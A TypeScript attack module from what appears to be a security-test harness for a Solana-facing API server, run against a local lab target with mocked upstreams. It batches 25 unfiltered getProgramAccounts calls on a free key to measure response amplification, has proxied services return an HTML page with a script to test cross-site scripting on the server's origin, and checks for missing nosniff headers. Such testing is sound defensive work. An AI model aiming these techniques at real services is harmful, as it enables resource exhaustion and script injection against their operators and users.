import { STRANGER } from '../ask.ts'
import type { Attack, Findings } from '../attack.ts'
import { registerKey } from '../free-key.ts'
import type { ProxiedReply } from '../provider-proxy.ts'
import type { Target } from '../target.ts'

const TOKEN_PROGRAM = 'TokenkegQfeZyiNwAJbNbGKPFXCWuBvf9Ss623VQ5DA'
const CALLS = 25
const TRIES = 3
const MIB = 2 ** 20
/** What a request of a few kilobytes by a free key may bring it. */
const MOST_MIB = 16
const STOP_MIB = 300
const PAGE = '<!doctype html><script>document.title = document.domain</script>'
const ORDINARY = ['/health', '/api/v2/market/sol-price', '/api/v2/openapi.json', '/api/stats', '/nothing']

type Notes = { readonly got: string[]; readonly taken: string[] }

/** Answers that are far larger than what was asked, and answers that a browser takes for a page of this server. */
export const relay: Attack = {
  name: 'relay',
  finding: '12',
  async run(lab): Promise<Findings> {
    const { target } = await lab.served()
    const notes: Notes = { got: [], taken: [] }
    const free = await registerKey(target, lab.keypair('free'))
    if (free === null) throw new Error('no free key was given')
    await askForAll(target, free.key, notes)
    const page: ProxiedReply = { status: 200, headers: { 'content-type': 'text/html' }, body: Buffer.from(PAGE) }
    lab.proxy.lie('tokenInfo', () => Promise.resolve(page))
    const info = await target.ask('/api/token-info', { body: { mints: [TOKEN_PROGRAM] }, from: STRANGER })
    lab.proxy.lie('rpc', ({ body }) => (body.includes('getHealth') ? Promise.resolve(page) : null))
    const call = { jsonrpc: '2.0', id: 1, method: 'getHealth' }
    const node = await target.as(free.key, '/api/v2/rpc', { body: call, from: STRANGER })
    lab.proxy.honestAgain()
    for (const [name, { status, headers, text }] of [
      ['token-info', info],
      ['the node', node],
    ] as const) {
      const isPage =
        text.includes('<script>') && !/json|text\/plain|octet-stream/.test(headers['content-type'] ?? 'text/html')
      notes.got.push(`a page from ${name}: ${status} ${headers['content-type'] ?? 'no type'}`)
      if (isPage) notes.taken.push(`a page of ${name} on this server's origin`)
    }
    await missNosniff(target, notes)
    return {
      tried: `${CALLS} getProgramAccounts without a filter; services that answer with pages`,
      ...notes,
      lost: [],
    }
  },
}

async function askForAll(target: Target, key: string, { got, taken }: Notes): Promise<void> {
  const params = [TOKEN_PROGRAM, { encoding: 'base64' }]
  const calls = Array.from({ length: CALLS }, (_, id) => ({ jsonrpc: '2.0', id, method: 'getProgramAccounts', params }))
  const body = JSON.stringify(calls)
  let { status, bytes } = await askBytes(target, key, body)
  // A busy machine's node was late: nothing was shown by that.
  for (let again = 0; status >= 500 && again < TRIES; again++) ({ status, bytes } = await askBytes(target, key, body))
  if (status >= 500) throw new Error(`the node was late ${TRIES} times: ${status}`)
  got.push(`${body.length} bytes by a free key: ${status}, ${(bytes / MIB).toFixed(1)} MiB came back`)
  if (bytes > MOST_MIB * MIB)
    taken.push(`${(bytes / MIB).toFixed(0)} MiB of the node for a free key's ${body.length} bytes`)
}

/** Counts what comes and keeps nothing of it; an answer that is cut counts as far as it came. */
async function askBytes(target: Target, key: string, body: string): Promise<{ status: number; bytes: number }> {
  const reply = await fetch(`http://127.0.0.1:${target.port}/api/v2/rpc`, {
    method: 'POST',
    headers: { 'Content-Type': 'application/json', 'X-API-Key': key },
    body,
    signal: AbortSignal.timeout(60_000),
  })
  let bytes = 0
  try {
    for await (const piece of reply.body ?? []) {
      bytes += piece.length
      if (bytes > STOP_MIB * MIB) break
    }
  } catch (error) {
    if (!(error instanceof Error)) throw error
  }
  return { status: reply.status, bytes }
}

async function missNosniff(target: Target, { got, taken }: Notes): Promise<void> {
  const without: string[] = []
  for (const path of ORDINARY)
    if ((await target.ask(path)).headers['x-content-type-options'] !== 'nosniff') without.push(path)
  got.push(`${without.length} of ${ORDINARY.length} ordinary answers lack nosniff`)
  if (without.length > 0) taken.push(`answers whose type browsers may guess: ${without.join(', ')}`)
}
